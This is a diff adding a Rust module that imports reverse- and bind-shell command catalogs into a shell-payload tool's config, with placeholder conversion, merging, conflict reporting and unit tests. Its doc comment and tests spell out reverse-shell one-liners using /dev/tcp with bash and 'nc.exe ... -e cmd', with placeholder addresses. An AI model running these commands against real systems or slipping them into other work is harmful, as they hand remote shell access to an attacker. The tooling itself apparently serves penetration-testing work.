@@ -0,0 +1,332 @@
+use crate::payload;
+use std::fs;
+use std::path::Path;
+
+/// Placeholder spellings other catalogs use, and shelly's equivalent
+const PLACEHOLDERS: [(&str, &str); 12] = [
+    ("{LHOST}", "{ip}"),
+    ("{lhost}", "{ip}"),
+    ("<LHOST>", "{ip}"),
+    ("<lhost>", "{ip}"),
+    ("<IP>", "{ip}"),
+    ("<ip>", "{ip}"),
+    ("{LPORT}", "{port}"),
+    ("{lport}", "{port}"),
+    ("<LPORT>", "{port}"),
+    ("<lport>", "{port}"),
+    ("<PORT>", "{port}"),
+    ("<port>", "{port}"),
+];
+
+/// `meta` values that name an os rather than a tag
+const OS_NAMES: [&str; 3] = ["linux", "mac", "windows"];
+
+/// Entries that aren't one-liners for the target (payload generators, or
+/// shells needing their own server)
+const UNSUPPORTED: [&str; 2] = ["msfvenom", "hoaxshell"];
+
+/// How `shelly import` merges a catalog
+pub struct Options {
+    /// Shell to add reverse shells to (default: the file's name); bind
+    /// shells go to `<into>-bind`
+    pub into: Option<String>,
+    /// What revshells' `{shell}` becomes in non-windows commands
+    pub target_shell: String,
+    /// Report what would change without saving
+    pub dry_run: bool,
+}
+
+/// One catalog entry, already converted to shelly's placeholders
+struct Entry {
+    name: String,
+    template: json::JsonValue,
+    /// Shell entry it goes to, from the entry's `shell` field
+    shell: Option<String>,
+    bind: bool,
+}
+
+/// Tally of an import
+#[derive(Default)]
+struct Report {
+    /// (shell, templates added)
+    added: Vec<(String, usize)>,
+    duplicates: usize,
+    conflicts: usize,
+    skipped: usize,
+}
+
+/// `shelly import <file>`: merge a catalog into `shells` in shelly.json.
+/// Returns the exit code.
+///
+/// A catalog is a JSON array of entries, or an object whose values are such
+/// arrays (revshells' `reverseShellCommands`, `bindShellCommands`, ...; arrays
+/// whose key mentions "bind" hold bind shells). An entry is
+///
+/// ```json
+/// { "name": "Bash -i", "command": "{shell} -i >& /dev/tcp/{ip}/{port} 0>&1",
+///   "meta": ["linux", "mac"] }
+/// ```
+///
+/// plus, optionally, any template metadata (`os`, `requires`, `pty`,
+/// `transport`, `description`, `tags`), `"bind": true` and `"shell"` to pick
+/// the shell entry it lands in.
+pub fn run(config: &mut json::JsonValue, path: &Path, options: &Options) -> i32 {
+    let catalog = match fs::read_to_string(path)
+        .map_err(|e| e.to_string())
+        .and_then(|text| json::parse(&text).map_err(|e| e.to_string()))
+    {
+        Ok(catalog) => catalog,
+        Err(e) => {
+            eprintln!("⚠️  Failed to read {}: {}", path.display(), e);
+            return 1;
+        }
+    };
+
+    println!("ℹ️  Importing {}", path.display());
+    let mut report = Report::default();
+    let entries = read_entries(&catalog, options, &mut report);
+
+    let base = options.into.clone().unwrap_or_else(|| {
+        path.file_stem()
+            .map(|stem| stem.to_string_lossy().to_string())
+            .unwrap_or_else(|| "imported".to_string())
+    });
+    for entry in entries {
+        let shell = entry.shell.clone().unwrap_or_else(|| {
+            if entry.bind { format!("{}-bind", base) } else { base.clone() }
+        });
+        merge(config, &shell, entry, &mut report);
+    }
+
+    let added: Vec<String> = report
+        .added
+        .iter()
+        .map(|(shell, count)| format!("{} to {}", count, shell))
+        .collect();
+    println!(
+        "ℹ️  Added {} template(s){}; {} already present, {} conflict(s), {} skipped",
+        report.added.iter().map(|(_, count)| count).sum::<usize>(),
+        if added.is_empty() { String::new() } else { format!(" ({})", added.join(", ")) },
+        report.duplicates,
+        report.conflicts,
+        report.skipped,
+    );
+
+    if options.dry_run || report.added.is_empty() {
+        return 0;
+    }
+    match crate::config::save_config(config) {
+        Ok(()) => {
+            println!("ℹ️  Saved ~/.shelly/shelly.json (previous version in shelly.json.bak)");
+            0
+        }
+        Err(e) => {
+            eprintln!("⚠️  Failed to save ~/.shelly/shelly.json: {}", e);
+            1
+        }
+    }
+}
+
+fn read_entries(catalog: &json::JsonValue, options: &Options, report: &mut Report) -> Vec<Entry> {
+    let mut lists: Vec<(&str, &json::JsonValue)> = Vec::new();
+    if catalog.is_array() {
+        lists.push(("", catalog));
+    } else {
+        lists.extend(catalog.entries().filter(|(_, value)| value.is_array()));
+    }
+
+    let mut entries = Vec::new();
+    for (key, list) in lists {
+        let key = key.to_ascii_lowercase();
+        for (i, value) in list.members().enumerate() {
+            let name = value["name"].as_str().map(|n| n.to_string()).unwrap_or_else(|| format!("{}[{}]", key, i));
+            let meta: Vec<String> = value["meta"].members().filter_map(|m| m.as_str().map(|s| s.to_ascii_lowercase())).collect();
+
+            if let Some(kind) = UNSUPPORTED.iter().find(|kind| key.contains(*kind) || meta.iter().any(|m| m == *kind)) {
+                println!("⚠️  Skipped \"{}\" ({} entries aren't target one-liners)", name, kind);
+                report.skipped += 1;
+                continue;
+            }
+            let Some(command) = value["command"].as_str() else {
+                println!("⚠️  Skipped \"{}\" (no command)", name);
+                report.skipped += 1;
+                continue;
+            };
+            let bind = value["bind"].as_bool().unwrap_or(key.contains("bind") || meta.iter().any(|m| m == "bind"));
+            entries.push(convert(value, &name, command, &meta, bind, options));
+        }
+    }
+    entries
+}
+
+/// A catalog entry as a shelly template object
+fn convert(value: &json::JsonValue, name: &str, command: &str, meta: &[String], bind: bool, options: &Options) -> Entry {
+    // revshells tags entries with every os they run on
+    let os = value["os"].as_str().map(|s| s.to_string()).or_else(|| {
+        let listed: Vec<&str> = OS_NAMES.iter().copied().filter(|os| meta.iter().any(|m| m == os)).collect();
+        match listed.as_slice() {
+            ["windows"] => Some("windows".to_string()),
+            [.., "windows"] => None,
+            [] => None,
+            [first, ..] => Some(first.to_string()),
+        }
+    });
+
+    let target_shell = if os.as_deref() == Some("windows") { "cmd" } else { options.target_shell.as_str() };
+    let mut command = command.replace("{shell}", target_shell);
+    for (theirs, ours) in PLACEHOLDERS {
+        command = command.replace(theirs, ours);
+    }
+
+    let mut template = json::object! { "command": command };
+    if let Some(os) = os {
+        template["os"] = os.into();
+    }
+    for key in ["requires", "pty", "transport"] {
+        if !value[key].is_null() {
+            template[key] = value[key].clone();
+        }
+    }
+    template["description"] = value["description"].as_str().unwrap_or(name).into();
+    let mut tags: Vec<String> = value["tags"].members().filter_map(|t| t.as_str().map(|s| s.to_string())).collect();
+    for m in meta {
+        if !OS_NAMES.contains(&m.as_str()) && !tags.contains(m) {
+            tags.push(m.clone());
+        }
+    }
+    if !tags.is_empty() {
+        template["tags"] = tags.into();
+    }
+
+    Entry {
+        name: name.to_string(),
+        template,
+        shell: value["shell"].as_str().map(|s| s.to_string()),
+        bind,
+    }
+}
+
+/// Add an entry to `shells.<shell>`, creating the shell if needed. Existing
+/// templates win over conflicting ones.
+fn merge(config: &mut json::JsonValue, shell: &str, entry: Entry, report: &mut Report) {
+    if !config["shells"].has_key(shell) {
+        config["shells"][shell] = if entry.bind {
+            json::object! { "listener": "connect", "templates": [] }
+        } else {
+            json::object! { "templates": [] }
+        };
+    }
+    let shell_obj = &mut config["shells"][shell];
+
+    let current = shell_obj["listener"].as_str().unwrap_or("netcat");
+    if (current == "connect") != entry.bind {
+        println!(
+            "⚠️  Conflict: \"{}\" is a {} shell but {} uses the {} listener; not added",
+            entry.name,
+            if entry.bind { "bind" } else { "reverse" },
+            shell,
+            current
+        );
+        report.conflicts += 1;
+        return;
+    }
+
+    let command = entry.template["command"].as_str().unwrap_or("").to_string();
+    let description = entry.template["description"].as_str().unwrap_or("").to_string();
+    let existing = payload::templates(shell_obj);
+    if existing.iter().any(|t| t.command == command) {
+        report.duplicates += 1;
+        return;
+    }
+    if existing.iter().any(|t| t.description.as_deref() == Some(description.as_str())) {
+        println!(
+            "⚠️  Conflict: {} already has a different \"{}\"; kept the existing one",
+            shell, description
+        );
+        report.conflicts += 1;
+        return;
+    }
+
+    let windows = entry.template["os"].as_str() == Some("windows");
+    let vars: Vec<String> = shell_obj["vars"].entries().map(|(k, _)| k.to_string()).collect();
+    for problem in payload::lint(&command, &vars, windows) {
+        println!("⚠️  \"{}\": {}", entry.name, problem);
+    }
+
+    if !shell_obj["templates"].is_array() {
+        shell_obj["templates"] = json::JsonValue::new_array();
+    }
+    let _ = shell_obj["templates"].push(entry.template);
+    match report.added.iter_mut().find(|(name, _)| name == shell) {
+        Some((_, count)) => *count += 1,
+        None => report.added.push((shell.to_string(), 1)),
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn options() -> Options {
+        Options {
+            into: None,
+            target_shell: "bash".to_string(),
+            dry_run: true,
+        }
+    }
+
+    fn converted(entry: json::JsonValue) -> Entry {
+        let command = entry["command"].as_str().unwrap().to_string();
+        let meta: Vec<String> = entry["meta"].members().filter_map(|m| m.as_str().map(|s| s.to_string())).collect();
+        convert(&entry, "test", &command, &meta, false, &options())
+    }
+
+    #[test]
+    fn converts_placeholder_spellings() {
+        for (theirs, ours) in [
+            ("nc {LHOST} {LPORT}", "nc {ip} {port}"),
+            ("nc {lhost} {lport}", "nc {ip} {port}"),
+            ("nc <LHOST> <LPORT>", "nc {ip} {port}"),
+            ("nc <lhost> <lport>", "nc {ip} {port}"),
+            ("nc <IP> <PORT>", "nc {ip} {port}"),
+            ("nc <ip> <port>", "nc {ip} {port}"),
+            ("nc {ip} {port}", "nc {ip} {port}"),
+        ] {
+            let entry = converted(json::object! { "command": theirs });
+            assert_eq!(entry.template["command"], ours, "{}", theirs);
+        }
+    }
+
+    #[test]
+    fn fills_in_the_target_shell() {
+        let entry = converted(json::object! {
+            "command": "{shell} -i >& /dev/tcp/{ip}/{port} 0>&1",
+            "meta": ["linux", "mac"],
+        });
+        assert_eq!(entry.template["command"], "bash -i >& /dev/tcp/{ip}/{port} 0>&1");
+        assert_eq!(entry.template["os"], "linux");
+
+        // windows-only entries get cmd
+        let entry = converted(json::object! {
+            "command": "nc.exe {LHOST} {LPORT} -e {shell}",
+            "meta": ["windows"],
+        });
+        assert_eq!(entry.template["command"], "nc.exe {ip} {port} -e cmd");
+        assert_eq!(entry.template["os"], "windows");
+    }
+
+    #[test]
+    fn keeps_metadata_and_tags() {
+        let entry = converted(json::object! {
+            "command": "x",
+            "meta": ["linux", "windows", "pty"],
+            "requires": ["python3"],
+            "tags": ["stable"],
+        });
+        // runs on more than windows, so no os
+        assert!(entry.template["os"].is_null());
+        assert_eq!(entry.template["description"], "test");
+        assert_eq!(entry.template["requires"][0], "python3");
+        assert_eq!(entry.template["tags"], json::array!["stable", "pty"]);
+    }
+}